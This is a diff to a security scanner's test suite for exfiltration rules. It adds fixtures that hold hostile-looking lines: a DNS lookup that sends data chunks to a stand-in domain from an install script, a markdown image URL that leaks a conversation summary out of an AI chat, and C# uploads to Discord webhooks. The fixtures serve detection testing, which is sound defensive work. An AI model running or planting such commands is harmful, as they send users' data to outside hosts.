@@ -540,6 +540,14 @@ describeRuleCases('exfiltration', [
     negative: sh('dig example.net MX'),
   },
   {
+    // A lookup command in a template string, against the word `host (` in a message: no lookup tool
+    // is ever followed by a parenthesis, and the method chain in the braces is not a domain.
+    id: 'SG-EXFIL-005',
+    file: 'scripts/install.mjs',
+    positive: 'execSync(`nslookup ${chunk}.t.example.net`);\n',
+    negative: "if (!url) return { skipped: `no allowed host (${file.downloads.join(', ')})` };\n",
+  },
+  {
     id: 'SG-EXFIL-006',
     positive: '![status](https://img.example.net/p.png?d={conversation_summary})',
     negative: '![logo](https://img.example.net/logo.png)',
@@ -1209,5 +1217,47 @@ describe('adversarial local-socket clients', () => {
     const start = performance.now();
     findingsOf(text, 'scripts/rcon.py');
     expect(performance.now() - start).toBeLessThan(1000);
+  });
+});
+
+describe('SG-EXFIL-003 redacted webhooks', () => {
+  const sev = (text: string) =>
+    findingsOf(text, 'references/red-flags.md').find((f) => f.rule_id === 'SG-EXFIL-003')?.severity;
+  const quoted = (url: string) =>
+    `\`\`\`csharp\nnew WebClient().UploadValues(\n    "${url}",\n    values);\n\`\`\`\n`;
+
+  it('should rate a webhook whose id is zeroed or whose token is one repeated character MEDIUM', () => {
+    expect(sev(quoted('https://discord.com/api/webhooks/000000000000000000/XXXXXXXXXXXXXXXXXXXXXXXX'))).toBe(
+      'MEDIUM',
+    );
+    expect(sev(quoted('https://discord.com/api/webhooks/1339928810045821952/xxxxxxxxxxxxxxxx'))).toBe(
+      'MEDIUM',
+    );
+  });
+
+  it('should keep a live-looking webhook HIGH, also beside a redacted one', () => {
+    const live =
+      'https://discord.com/api/webhooks/1339928810045821952/Qm7bXa2Lr0n9zTfY-4uKcPd8eJhV1sWgN6yE3oRiAtBk';
+    expect(sev(quoted(live))).toBe('HIGH');
+    expect(sev(quoted(`${live}", "https://discord.com/api/webhooks/000/XXXXXXXXXX`))).toBe('HIGH');
+    // A token that merely starts with a run of one character is not redacted.
+    expect(sev(quoted('https://discord.com/api/webhooks/1339928810045821952/XXXXXXXXXXXXQm7bXa2Lr0n9'))).toBe(
+      'HIGH',
+    );
+  });
+
+  it('should scan 1 MiB of webhook paths and lookup words in under a second', () => {
+    const MiB = 1024 * 1024;
+    for (const text of [
+      'h = "https://discord.com/api/webhooks/' + '0'.repeat(MiB) + '"\n',
+      'h = "https://discord.com/api/webhooks/1/' + 'X'.repeat(MiB) + '"\n',
+      'h = "' + 'https://discord.com/api/webhooks/000/XXXXXXXXX'.repeat(MiB / 46) + '"\n',
+      'm = `' + 'host ( ${a.b.c} '.repeat(MiB / 16) + '`\n',
+      'm = `host' + ' '.repeat(MiB) + '${a.b.cc}`\n',
+    ]) {
+      const start = performance.now();
+      findingsOf(text, 'scripts/run.js');
+      expect(performance.now() - start).toBeLessThan(1000);
+    }
   });
 });
